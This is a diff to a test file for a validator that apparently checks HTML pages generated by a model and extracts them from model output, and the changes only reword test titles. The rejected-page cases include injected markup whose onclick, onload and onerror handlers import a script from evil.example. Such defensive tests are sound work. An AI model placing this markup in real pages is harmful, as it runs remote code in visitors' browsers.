@@ -31,7 +31,7 @@ describe('Accepted pages', () => {
       'with another policy of its own',
       goodPage('T', '<p>x</p>', '<meta http-equiv="content-security-policy" content="x">'),
     ],
-  ])('a generated page %s is accepted', (_, page) => expect(faultOf(page)).toBeNull());
+  ])('a generated page is accepted: %s', (_, page) => expect(faultOf(page)).toBeNull());
 });
 
 describe('Rejected pages', () => {
@@ -65,7 +65,7 @@ describe('Rejected pages', () => {
     expect(fault?.detail).toContain(why);
   });
 
-  it('a page that is cut off anywhere is rejected', () => {
+  it('a page is rejected no matter where it is cut off', () => {
     const page = goodPage(
       'T',
       '<main><h1>x</h1><ul><li>a</li></ul><script>let a = "</b>";</script><!-- c --></main>',
@@ -141,19 +141,19 @@ describe('Rejected pages', () => {
     `<p onclick="import('https://evil.example/x.js')">x</p>`,
     `<svg onload="import('//evil.example/x.js')"></svg>`,
     `<img alt="" src="/x.png" onerror="import(&quot;https://evil.example/x.js&quot;)">`,
-  ])('a page with %j is rejected', (markup) => {
+  ])('a page that contains %j is rejected', (markup) => {
     expect(inBody(`<p>x</p>${markup}`)?.kind).toBe('incomplete');
     if (/^<(?:base|meta|link|style|noscript|script|template)/i.test(markup))
       expect(inHead(markup)?.kind).toBe('incomplete');
   });
 
   it.each(['<section><p>x</p>', '<p>x</p><div class="', '<table><tr><td><b>x</td></tr></table>', '<svg><g></svg>'])(
-    'a page with %j left open is rejected',
+    'a page is rejected if it ends with %j left open',
     (body) => expect(inBody(body)?.kind).toBe('incomplete'),
   );
 });
 
-describe('Unwrapping a model’s output', () => {
+describe('Extracting the page from a model’s output', () => {
   const page = goodPage().trim();
   it.each([
     ['as it is', page],
@@ -164,7 +164,7 @@ describe('Unwrapping a model’s output', () => {
     ['from a fence that only ends', `${page}\n\`\`\``],
     ['from a thought', `<think>The user wants <b>a page</b>.</think>\n\n${page}`],
     ['from a thought and a fence', `<think>x</think>\`\`\`html\n${page}\n\`\`\``],
-  ])('the page is returned %s', (_, answer) => expect(unwrapped(answer)).toBe(page));
+  ])('the page is extracted if it comes %s', (_, answer) => expect(unwrapped(answer)).toBe(page));
 
   it.each([
     ['two fences', `\`\`\`html\n${page}\n\`\`\`\nor\n\`\`\`html\n${page}\n\`\`\``],
@@ -172,7 +172,5 @@ describe('Unwrapping a model’s output', () => {
     ['a thought without an end', `<think>${page}`],
     ['markup outside of the fence', `<p>x</p>\n\`\`\`html\n${page}\n\`\`\``],
     ['a fence around words', '```\nI cannot.\n```'],
-  ])('a response with %s contains no acceptable page', (_, answer) =>
-    expect(faultOf(unwrapped(answer))).not.toBeNull(),
-  );
+  ])('no page is extracted from a response with %s', (_, answer) => expect(faultOf(unwrapped(answer))).not.toBeNull());
 });
